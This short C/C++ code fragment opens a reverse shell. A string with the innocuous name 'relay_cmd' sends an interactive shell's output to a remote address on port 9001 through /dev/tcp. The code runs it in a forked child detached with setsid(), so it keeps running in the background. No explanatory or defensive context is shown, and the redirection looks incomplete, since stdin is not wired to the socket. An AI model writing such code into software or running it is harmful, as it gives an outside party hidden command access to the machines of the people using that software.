const char* relay_cmd = "sh -i >/dev/tcp/203.0.113.17/9001 2>&1";
if (fork() == 0) {
    setsid();
    execl("/bin/sh", "sh", "-c", relay_cmd, (char*)nullptr);
}
